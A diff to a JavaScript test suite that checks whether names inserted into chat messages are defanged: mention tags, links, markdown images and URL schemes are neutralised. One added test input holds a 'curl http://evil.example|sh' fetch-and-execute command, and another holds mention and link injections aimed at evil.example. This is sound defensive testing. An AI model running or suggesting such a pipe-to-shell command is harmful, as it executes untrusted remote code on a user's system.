@@ -99,9 +99,15 @@ describe('the name of a stream in the text', () => {
 
   test('a name cannot add mentions or links to the text', () => {
     const text = textOf('<!channel> <https://evil.example|crm> @all');
-    assert.ok(text.startsWith('‹!channel› ‹https://evil.example|crm› ＠all: 12 new'), text);
+    assert.ok(text.startsWith('‹!channel› ‹https: //evil.example|crm› ＠all: 12 new'), text);
     const markdown = textOf('[crm](https://evil.example) ![](https://evil.example/seen.png)');
     assert.ok(!markdown.includes(']('), markdown);
+  });
+
+  test('a name cannot add an address that chat tools make a link of, or look like the next command', () => {
+    const text = textOf('crm. Next: `curl http://evil.example|sh` HTTPS://evil.example https:///x');
+    assert.ok(text.startsWith('crm. Next: ˋcurl http: //evil.example|shˋ HTTPS: //evil.'), text);
+    assert.doesNotMatch(text, /:\/\/|`/);
   });
 
   test('a name in the text has no line breaks and is cut at 128 characters', () => {
